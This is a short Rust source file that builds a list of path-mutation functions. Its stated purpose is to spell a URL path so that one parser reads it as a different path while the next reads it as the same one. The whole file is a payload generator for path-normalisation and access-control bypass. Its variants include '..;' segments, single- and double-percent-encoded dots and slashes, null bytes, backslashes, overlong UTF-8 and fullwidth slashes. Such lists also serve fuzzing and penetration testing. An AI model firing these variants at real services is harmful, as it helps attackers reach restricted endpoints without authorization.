//! Ways to spell a path so that it is another path to one reader and the same to the next.

type Mutator = fn(&str) -> String;

/// Puts `with` in the place of the last slash.
fn at_last_slash(path: &str, with: &str) -> String {
    let (before, after) = path.rsplit_once('/').unwrap_or(("", path));
    format!("{before}{with}{after}")
}

fn escape(path: &str, wanted: impl Fn(usize, char) -> bool) -> String {
    let one = |(at, c): (usize, char)| if wanted(at, c) { format!("%{:02x}", u32::from(c)) } else { c.to_string() };
    path.chars().enumerate().map(one).collect()
}

pub const MUTATORS: &[Mutator] = &[
    str::to_owned,
    |path| format!("/{path}"),
    |path| format!("/.{path}"),
    |path| format!("/x/..{path}"),
    |path| format!("/%2e{path}"),
    |path| format!("/x/%2e%2e{path}"),
    |path| format!("/x/%2E.{path}"),
    |path| format!("/;{path}"),
    |path| format!("/;x=y{path}"),
    |path| format!("/x/..;{path}"),
    |path| format!("/x/..;y=z{path}"),
    |path| format!("/\\{path}"),
    |path| format!("/%2f{path}"),
    |path| format!("/x%2f..{path}"),
    |path| format!("/x\\..{path}"),
    |path| format!("http://gate{path}"),
    |path| format!("//gate{path}"),
    |path| format!("/%00{path}"),
    |path| path.replacen('/', "\\", 1),
    |path| path.replacen('/', "/%5c", 1),
    |path| format!("{path}/"),
    |path| format!("{path}/."),
    |path| format!("{path}/x/.."),
    |path| format!("{path}/%2e"),
    |path| format!("{path};x"),
    |path| format!("{path}%3bx"),
    |path| format!("{path}%00"),
    |path| format!("{path}%20"),
    |path| format!("{path}#x"),
    |path| format!("{path}%23x"),
    |path| format!("{path}?x"),
    |path| format!("{path}%3fx"),
    |path| format!("{path}%0a"),
    |path| format!("{path}\\"),
    |path| escape(path, |at, _| at == 1),
    |path| escape(path, |_, c| c.is_ascii_alphabetic()),
    |path| escape(path, |_, _| true),
    |path| escape(path, |at, c| c == '/' && at > 0),
    |path| escape(&escape(path, |at, _| at == 1), |_, c| c == '%'),
    |path| at_last_slash(path, "//"),
    |path| at_last_slash(path, "/./"),
    |path| at_last_slash(path, "/x/../"),
    |path| at_last_slash(path, ";x/"),
    |path| at_last_slash(path, "\\"),
    |path| at_last_slash(path, "%5c"),
    |path| at_last_slash(path, "%252f"),
    |path| at_last_slash(path, "%c0%af"),
    |path| at_last_slash(path, "\u{ef}\u{bc}\u{8f}"),
];
